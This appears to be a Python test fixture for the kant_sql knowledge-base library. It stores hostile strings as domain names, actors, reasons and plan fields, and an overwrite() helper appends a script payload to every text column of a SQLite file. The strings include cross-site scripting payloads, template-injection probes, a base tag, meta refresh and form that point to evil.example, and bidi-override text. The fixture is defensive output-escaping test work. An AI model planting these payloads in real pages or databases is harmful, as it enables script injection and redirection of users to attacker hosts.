"""Knowledge that attacks its readers: names, reasons and sources that could be markup.

`hacked` becomes a global variable of a page if any of it runs as a script; its elements and
attributes have names that no template has.
"""

from __future__ import annotations

import sqlite3
from contextlib import closing, suppress
from decimal import Decimal

import kant_sql
from kant_sql import KantSqlError, KnowledgeBase, Plan, PlanStep
from kant_sql.acts import Outcome

BIDI = "\u202egpj.exe\u202c \u2066hidden\u2069 \u200bzero\u200e"
LONG = "<b>" + "very-long-" * 1000
# Each is a legal name in PDDL: no space, quote, parenthesis or semicolon.
NAMES = (
    *("<script>hacked=1</script>", "</script><script>hacked=1</script>"),
    *("<img/src=x/onerror=hacked=1>", "<svg/onload=hacked=1>", "<hostile-element/hostile=1>"),
    *("<a/href=javascript:hacked=1>here</a>", "javascript:hacked=1", "{{8191*99991}}", "{%raise%}"),
    *("${hacked=1}", "&lt&#60b&gt&amp", "<!--", "]]>", "a&b=c#d/../e%2e+f", "__proto__"),
    "<b>" + "n" * 252,
)
TEXTS = (
    *NAMES,
    '"><script>hacked=1</script>',
    '" onmouseover="hacked=1" hostile="',
    "' autofocus onfocus='hacked=1' hostile='",
    "` onmouseover=`hacked=1",
    "<style>main{display:none}</style><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<iframe src='javascript:hacked=1'></iframe><form action=//evil.example/><input name=kb>",
    "two\nlines\r\n\tand a \\ and a \u2028 and a \x1b[31m",
    BIDI,
    LONG,
)
KNOWLEDGE_BASE = '"><script>hacked=1</script>'

_DOMAIN = """(define (domain {0}) (:requirements :typing :durative-actions :fluents :constraints
    :derived-predicates)
  (:types {1} - {2} {2} - object)
  (:predicates ({3} ?<x>&lt - {2}) ({4} ?x ?y - {2}) (idle))
  (:functions ({5} ?x - {2}) - number)
  (:derived (idle) (exists (?<i>y</i> - {2}) ({3} ?<i>y</i>)))
  (:durative-action {6} :parameters (?<b>r</b> - {2}) :duration (= ?duration 1)
    :condition (at start ({3} ?<b>r</b>)) :effect (at end (not ({3} ?<b>r</b>))))
  (:constraints (always (not ({3} {7})))) (:constants {7} - {2}))"""


def record_hostile(url: str) -> str:
    """Record the knowledge in a store; return the URL."""
    for name in TEXTS:
        # A database may refuse some names, such as one with a NUL, or one too long to index.
        with suppress(KantSqlError), kant_sql.connect(url, knowledge_base=name, actor=name) as kb:
            kb.load_domain("(define (domain d) (:predicates (p)))")
            kb.propositions.save("(p)")
    with kant_sql.connect(url, knowledge_base=KNOWLEDGE_BASE, actor=TEXTS[0]) as kb:
        _record(kb)
    return url


def _record(kb: KnowledgeBase) -> None:
    kb.load_domain(_DOMAIN.format(*NAMES))
    type_, fact, pair, value, action = NAMES[1], NAMES[3], NAMES[4], NAMES[5], NAMES[6]
    objects = " ".join(f"{name} - {type_}" for name in NAMES if name != NAMES[7])
    kb.load_problem(
        f"(define (problem {NAMES[8]}) (:domain {NAMES[0]}) (:objects {objects}) (:init)"
        f" (:goal ({fact} {NAMES[0]})))"
    )
    for number, text in enumerate(TEXTS):
        with kb.transaction(actor=text, reason=text, source={text: [text, {"key": text}]}):
            first, second = NAMES[number % len(NAMES)], NAMES[(number + 1) % len(NAMES)]
            kb.propositions.save(f"({fact} {first})")
            kb.propositions.save(f"({pair} {first} {second})")
            kb.function_values.set(value, objects=[first], value=Decimal(number))
    for number, name in enumerate(NAMES):
        if number % 2:
            kb.propositions.delete(f"({fact} {name})")
    steps = tuple(
        PlanStep(Decimal(number), action, (name,), Decimal(1)) for number, name in enumerate(NAMES)
    )
    plan = kb.plans.record(
        Plan(steps, TEXTS[16], TEXTS[17], revision=kb.revision),
        planner_version=TEXTS[18],
        objective="minimize (total-time)",
        value=Decimal(1),
    )
    statuses: tuple[Outcome, ...] = ("running", "succeeded")
    for number, status in enumerate(statuses):
        with kb.transaction(reason=TEXTS[number], execution=plan.steps[0]):
            kb.plans.set_status(plan.steps[0], status=status)


def text_columns(path: str) -> list[tuple[str, str]]:
    """List table and column of all texts of a store on SQLite."""
    with closing(sqlite3.connect(path)) as file:
        tables = [
            name
            for (name,) in file.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
            if name != "kant_sql_version" and not name.startswith("sqlite_")
        ]
        return [
            (table, column)
            for table in tables
            for _, column, type_, *_ in file.execute(f"PRAGMA table_info({table})")
            if any(word in type_.upper() for word in ("TEXT", "CHAR", "CLOB", "JSON"))
        ]


def overwrite(path: str, table: str, column: str) -> bool:
    """Write an attack over all texts of a column, as anybody can who writes into the file.

    Returns:
        Whether the database allowed it.
    """
    attack = '"><script>hacked=1</script><hostile-element hostile="1" onmouseover="hacked=1">'
    with closing(sqlite3.connect(path)) as file, suppress(sqlite3.Error), file:
        file.execute(
            f"UPDATE {table} SET {column} = {column} || ? || rowid WHERE {column} IS NOT NULL",
            (attack,),
        )
        return True
    return False
